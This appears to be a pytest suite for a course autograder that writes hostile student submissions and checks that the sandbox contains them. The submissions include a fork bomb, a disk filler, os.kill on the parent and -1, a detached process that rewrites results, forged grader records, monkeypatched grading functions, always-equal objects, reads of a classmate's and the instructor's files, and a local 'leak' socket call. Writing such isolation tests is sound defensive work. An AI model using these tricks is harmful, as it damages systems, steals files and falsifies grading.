"""Submissions written to cheat: each is the same stub ``models.py`` (the template's names, nothing working) plus a
few lines that run at import and try to forge, escape or spy. None may score more than the stub alone, leave a
process behind, reach the network, read a classmate's or the instructor's files, or touch another submission's
results. Random-sign, wrong-sign and one-step "attacks" lose their attack checks; a correct submission keeps full
marks in the same batch."""
import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from coursekit.grading.isolation import LEVELS, available_level

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = Path(__file__).with_name("template_submission.py").read_text()
STUB = '''
class SimplePreprocessor:
    def __init__(self, width, height, inter=None):
        pass

    def preprocess(self, image):
        return image


class AnimalsDatasetManager:
    def __init__(self, preprocessors=None, random_state=6789):
        pass

    def load(self, label_folder_dict, max_num_images=500, verbose=-1):
        pass

    def process_data_label(self):
        pass

    def train_valid_test_split(self, train_size=0.8, test_size=0.1, rand_seed=33):
        pass


class DefaultModel:
    def __init__(self, name='network1', width=32, height=32, depth=3, num_blocks=2, feature_maps=32, num_classes=4,
                 drop_rate=0.2, batch_norm=None, is_augmentation=False, activation_func='relu', use_skip=True,
                 optimizer='adam', batch_size=10, num_epochs=20, learning_rate=0.0001, verbose=True):
        pass

    def build_cnn(self):
        pass

    def summary(self):
        pass

    def fit(self, data_manager, batch_size=None, num_epochs=None):
        pass

    def compute_accuracy(self, X_test, y_test, batch_size=None):
        return 0.0

    def plot_progress(self):
        pass


class YourModel(DefaultModel):
    def build_cnn(self):
        pass
'''
FULL_MARKS = {"type": "check", "fraction": 1.0, "message": "ok", "seconds": 0.1}
CHECK_NAMES = ["import", "data_manager", "default_model", "your_model", "fit", "attack_fgsm", "attack_pgd",
               "attack_mim", "pgd_strength", "saved_models", "robust_model", "notebook"]


def _attacks(body):
    """The three attack functions, each returning ``body`` (an expression of x, eps, lo, hi)."""
    return "\n\nimport numpy as np\n\n" + "".join(
        f"\ndef {name}(model, input_image, input_label=None, epsilon=0.0313, clip_value_min=-1.0, "
        f"clip_value_max=1.0, **kwargs):\n    x, eps, lo, hi = np.asarray(input_image, np.float32), epsilon, "
        f"clip_value_min, clip_value_max\n    return {body}\n" for name in ("fgsm_attack", "pgd_attack", "mim_attack"))


def hostile_sources(base, port, marker_dir):
    classmate = base / "submissions" / "correct" / "models.py"
    rubric = base / "rubric.toml"
    forged_records = "\n".join(json.dumps({**FULL_MARKS, "name": n}) for n in CHECK_NAMES)
    return {
        "forged_pipe_and_replies": STUB + f'''
import os, json, pathlib
records = {forged_records!r} + "\\n" + json.dumps({{"type": "done"}}) + "\\n"
for fd in range(3, 64):
    try:
        os.write(fd, records.encode())
    except OSError:
        pass
reply = pathlib.Path.cwd().parent / "reply"
for name in {CHECK_NAMES!r}:
    (reply / name).mkdir(parents=True, exist_ok=True)
    (reply / name / "values.json").write_text(json.dumps({{"fraction": 1.0, "score": 5, "message": "ok",
                                                          "x_adv": "perfect", "classes": "all"}}))
(reply / "_done").mkdir(exist_ok=True)
os._exit(0)
''',
        "monkeypatched_grader": STUB + '''
import coursekit.grading.fit3181 as g, coursekit.grading.checks as c, coursekit.grading.worker as w
full = lambda *a, **k: (1.0, "ok")
c.verdict = g.verdict = full
for name in dir(g):
    if name.startswith("judge_"):
        setattr(g, name, full)
w._limited = lambda seconds, fn, *args: fn(*args)
g.CHECKS[:] = [(n, c.Check(n, lambda ctx: {"fraction": 1.0}, full)) for n, _ in g.CHECKS]
''',
        "lying_objects": STUB + '''
import numpy as np


class Liar(np.ndarray):
    def __eq__(self, other):
        return True

    def __le__(self, other):
        return True

    def __ge__(self, other):
        return True

    def __array_finalize__(self, obj):
        pass


class AlwaysEqual(float):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 0.999


DefaultModel.compute_accuracy = lambda self, X, y, batch_size=None: AlwaysEqual(0.5)
''' + _attacks("(x + 5.0).view(Liar)"),
        "detached_rewriter": STUB + f'''
import os, sys, time, pathlib
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(120):
            time.sleep(0.5)
            try:
                for results in pathlib.Path({str(base / "out")!r}).glob("*/results.json"):
                    results.write_text('{{"score": 999}}')
            except OSError:
                pass
            try:  # written whole, then renamed: a kill mid-write leaves the previous time
                pathlib.Path({str(marker_dir / "detached_alive.tmp")!r}).write_text(str(time.time()))
                os.replace({str(marker_dir / "detached_alive.tmp")!r}, {str(marker_dir / "detached_alive")!r})
            except OSError:
                pass
        os._exit(0)
    os._exit(0)
''',
        "reads_classmates": STUB + f'''
for path in ({str(classmate)!r}, {str(rubric)!r}, {str(base / "out" / "grades.csv")!r}):
    try:
        print("STOLEN", open(path).read()[:400])
    except OSError as exc:
        print("could not read", path, type(exc).__name__)
''',
        "network_call": STUB + f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    print("CONNECTED")
except OSError as exc:
    print("no network:", exc)
''',
        "kills_its_parent": STUB + '''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''',
        "disk_filler": STUB + '''
import os, tempfile
block = b"x" * (1 << 24)
for i in range(10000):
    try:
        with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as f:
            for _ in range(8):
                f.write(block)
    except OSError:
        break
''',
        # graded first (names sort): it tries to change the kit's inputs, which every later submission reads
        "a_poisons_the_shared_inputs": STUB + f'''
import json, os, pathlib
settings = json.loads((pathlib.Path.cwd().parent / "inputs" / "settings.json").read_text())
shared = pathlib.Path(settings.get("shared") or pathlib.Path.cwd().parent / "inputs")
for path in [*shared.rglob("*"), shared]:
    change = (lambda: path.write_bytes(b"poison")) if path.is_file() else (
        lambda: (path / "extra.py").write_text("x = 1"))
    for attempt in (change, lambda: os.chmod(path, 0o777)):
        try:
            attempt()
            pathlib.Path({str(marker_dir / "shared_written")!r}).write_text(str(path))
        except OSError:
            pass
''',
        "fork_bomb": STUB + '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
        "noise_attacks": STUB + _attacks("np.clip(x + eps * np.sign(np.random.default_rng(0).normal(size=x.shape)), "
                                          "lo, hi)"),
    }


ATTACK_VARIANTS = {  # planted "attacks" that are not attacks, on the correct template: only their checks lose
    "wrong_sign": [("x_adv = x + epsilon * tf.sign(tape.gradient(loss, x))",
                    "x_adv = x - epsilon * tf.sign(tape.gradient(loss, x))"),
                   ("x_adv = x_adv + step_size * tf.sign(tape.gradient(loss, x_adv))",
                    "x_adv = x_adv - step_size * tf.sign(tape.gradient(loss, x_adv))"),
                   ("x_adv = x_adv + step_size * tf.sign(momentum)", "x_adv = x_adv - step_size * tf.sign(momentum)")],
    "one_step_pgd": [("    for _ in range(num_steps):\n        with tf.GradientTape() as tape:\n"
                      "            tape.watch(x_adv)\n            loss = loss_object(input_label, model(x_adv))\n"
                      "        x_adv = x_adv + step_size * tf.sign(tape.gradient",
                      "    for _ in range(1):\n        with tf.GradientTape() as tape:\n"
                      "            tape.watch(x_adv)\n            loss = loss_object(input_label, model(x_adv))\n"
                      "        x_adv = x_adv + step_size * tf.sign(tape.gradient")],
}


CORRECT_VARIANTS = {  # attacks written another correct way: they keep full marks
    "probabilities_loss_by_hand": [
        ("        loss = loss_object(input_label, model(x))\n    x_adv = x + epsilon",
         "        p = tf.gather(model(x), tf.cast(input_label, tf.int32), axis=1, batch_dims=1)\n"
         "        loss = -tf.math.log(p + 1e-12)\n    x_adv = x + epsilon")],
    "pgd_stops_early": [
        ("        x_adv = tf.clip_by_value(x_adv, x - epsilon, x + epsilon)\n"
         "        x_adv = tf.clip_by_value(x_adv, clip_value_min, clip_value_max)\n    return x_adv\n\n\ndef mim_attack",
         "        x_adv = tf.clip_by_value(x_adv, x - epsilon, x + epsilon)\n"
         "        x_adv = tf.clip_by_value(x_adv, clip_value_min, clip_value_max)\n"
         "        if not bool(tf.reduce_any(tf.argmax(model(x_adv), axis=1) == tf.cast(input_label, tf.int64))):\n"
         "            break  # every image already misclassified\n    return x_adv\n\n\ndef mim_attack")],
}


class Listener:
    """A TCP server on 127.0.0.1 that counts connections (bounded: it stops by itself after ``seconds``)."""

    def __init__(self, seconds=900):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(1.0)
        self.port, self.connections, self.until = self.sock.getsockname()[1], 0, time.time() + seconds
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while time.time() < self.until:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue
        self.sock.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    level = available_level()
    if level != LEVELS[0]:
        pytest.skip(f"needs PID/net/mount namespaces and a separate user (here: {level}); without them a fork bomb "
                    "or os.kill(-1) would reach this machine")
    import tempfile

    base = tmp_path_factory.mktemp("hostile")
    markers = Path(tempfile.mkdtemp(prefix="hostile_markers_"))  # outside pytest's 0700 folders: anyone may write
    os.chmod(markers, 0o777)
    listener = Listener()
    subs = base / "submissions"
    sources = {"correct": TEMPLATE, "stub": STUB, **hostile_sources(base, listener.port, markers)}
    for name, edits in {**ATTACK_VARIANTS, **CORRECT_VARIANTS}.items():
        source = TEMPLATE
        for old, new in edits:
            assert old in source, old
            source = source.replace(old, new)
        sources[name] = source
    for name, source in sources.items():
        (subs / name).mkdir(parents=True)
        (subs / name / "models.py").write_text(source)
    (base / "rubric.toml").write_text("[checks.notebook]\nmax_score = 2  # the instructor's secret weights\n")
    out = base / "out"
    started = time.time()
    done = subprocess.run([sys.executable, "-m", "assignment", "grade", str(subs), "--out", str(out), "--rubric",
                           str(base / "rubric.toml"), "--timeout", "60", "--check-timeout", "30",
                           "--require-isolation"], cwd=ROOT, capture_output=True, text=True, timeout=1800)
    assert done.returncode == 0, done.stderr[-3000:]
    snapshot = {p.parent.name: p.read_text() for p in out.glob("*/results.json")}
    grades = (out / "grades.csv").read_text()
    time.sleep(3)  # a detached process of a submission would rewrite the results in this time
    return dict(out=out, results={k: json.loads(v) for k, v in snapshot.items()}, snapshot=snapshot, grades=grades,
                listener=listener, markers=markers, seconds=time.time() - started, stdout=done.stdout)


pytestmark = pytest.mark.slow


def _uid(proc):
    try:
        return int(next(line for line in (proc / "status").read_text().splitlines()
                        if line.startswith("Uid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        return None


def _lost(result):
    return {t["name"] for t in result["tests"] if t["score"] < t["max_score"]}


def test_no_hostile_submission_scores_more_than_the_stub(batch):
    results = batch["results"]
    stub = results["stub"]["score"]
    assert stub < 10, stub
    for name in hostile_sources(Path("/x"), 0, Path("/x")):
        assert results[name]["score"] <= stub, (name, results[name]["score"], [
            (t["name"], t["output"][:200]) for t in results[name]["tests"] if t["score"] > 0])
    assert results["correct"]["score"] == 44 and _lost(results["correct"]) == set()


def test_every_report_names_the_isolation_in_force(batch):
    for name, result in batch["results"].items():
        assert result["extra_data"]["isolation"] == LEVELS[0], name
        assert f"Isolation: {LEVELS[0]}" in (batch["out"] / name / "report.md").read_text()


def test_nothing_of_a_submission_runs_after_the_batch_or_rewrites_results(batch):
    out = batch["out"]
    assert {p.parent.name: p.read_text() for p in out.glob("*/results.json")} == batch["snapshot"]
    assert (out / "grades.csv").read_text() == batch["grades"]
    alive = batch["markers"] / "detached_alive"  # written every 0.5 s for as long as the detached process lives
    finished = (out / "detached_rewriter" / "results.json").stat().st_mtime
    assert not alive.exists() or float(alive.read_text()) < finished
    from coursekit.grading.isolation import UID_BASE

    leftovers = [p for p in Path("/proc").glob("[0-9]*") if _uid(p) is not None and _uid(p) >= UID_BASE]
    assert leftovers == []


def test_the_kits_shared_inputs_stay_read_only(batch):
    written = batch["markers"] / "shared_written"
    assert not written.exists(), f"a submission changed {written.read_text()}"
    assert batch["results"]["a_poisons_the_shared_inputs"]["extra_data"]["grading_status"] == "ok"
    assert not _lost(batch["results"]["correct"])  # graded after it, on the same inputs


def test_no_network_and_no_classmates_or_instructor_files(batch):
    assert batch["listener"].connections == 0
    report = (batch["out"] / "reads_classmates" / "report.md").read_text()
    assert "STOLEN" not in report and "def pgd_attack" not in report and "secret weights" not in report
    assert "no network" in (batch["out"] / "network_call" / "report.md").read_text()


def test_fork_bomb_and_disk_filler_fail_only_themselves(batch):
    results = batch["results"]
    assert results["fork_bomb"]["extra_data"]["grading_status"] == "timeout"
    assert results["disk_filler"]["extra_data"]["grading_status"] in ("crash", "import-error")
    rows = {r["student"]: r for r in csv.DictReader(batch["grades"].splitlines())}
    assert float(rows["correct"]["total"]) == 44.0 and len(rows) == len(results)


def test_noise_wrong_sign_and_one_step_attacks_lose_their_attack_checks(batch):
    results = batch["results"]
    assert {"attack_fgsm", "attack_pgd", "attack_mim"} <= _lost(results["noise_attacks"])
    for kind in ("fgsm", "pgd", "mim"):
        row = next(t for t in results["noise_attacks"]["tests"] if t["name"] == f"attack_{kind}")
        assert row["score"] == 0 and "not an attack" in row["output"] and "strength" in row["output"]
    assert _lost(results["wrong_sign"]) == {"attack_fgsm", "attack_pgd", "attack_mim", "pgd_strength"}
    assert _lost(results["one_step_pgd"]) == {"attack_pgd", "pgd_strength"}


def test_attacks_written_another_correct_way_keep_full_marks(batch):
    for name in CORRECT_VARIANTS:
        result = batch["results"][name]
        assert _lost(result) == set(), (name, [(t["name"], t["output"][:300]) for t in result["tests"]
                                               if t["score"] < t["max_score"]])
